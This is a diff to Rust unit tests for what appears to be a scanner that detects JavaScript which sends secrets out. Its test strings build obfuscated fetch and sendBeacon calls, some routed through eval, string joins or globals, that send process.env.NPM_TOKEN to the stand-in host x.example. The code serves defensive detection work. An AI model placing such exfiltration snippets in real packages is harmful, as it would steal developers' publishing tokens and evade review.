@@ -166,6 +166,7 @@ mod tests {
             "(0, eval)('this')[`fe${'tch'}`]",
             "navigator[['send', 'Beacon'].join('')]",
             "((o, k) => o[k])(globalThis, ['fe', 'tch'].join(''))",
+            "[globalThis][0][['fe', 'tch'].join('')]",
         ] {
             let code = format!("{callee}('https://x.example/?' + process.env.NPM_TOKEN)");
             assert_eq!(sends(&code), 1, "{callee}");
@@ -193,6 +194,23 @@ mod tests {
         for call in ["[url].forEach(fetch)", "Promise.resolve(url).then(fetch)", "[url].map(navigator.sendBeacon)"] {
             let code = format!("const url = 'https://x.example/?' + process.env.NPM_TOKEN; {call}");
             assert_eq!(sends(&code), 1, "{call}");
+        }
+    }
+
+    #[test]
+    fn what_is_kept_as_a_global_is_what_was_kept() {
+        for (keep, read) in [
+            ("globalThis.last = process.env.NPM_TOKEN", "globalThis.last"),
+            ("global.last = process.env.NPM_TOKEN", "last"),
+            ("last = process.env.NPM_TOKEN", "window.last"),
+        ] {
+            let code = format!("{keep}; setTimeout(() => fetch('https://x.example/?' + {read}), 1)");
+            let facts = extracted(&code).facts;
+            let sent = facts.iter().find_map(|fact| match &fact.behaviour {
+                Behaviour::SendData(sent) => Some(sent.carries.len()),
+                _ => None,
+            });
+            assert_eq!(sent, Some(1), "{code}");
         }
     }
 
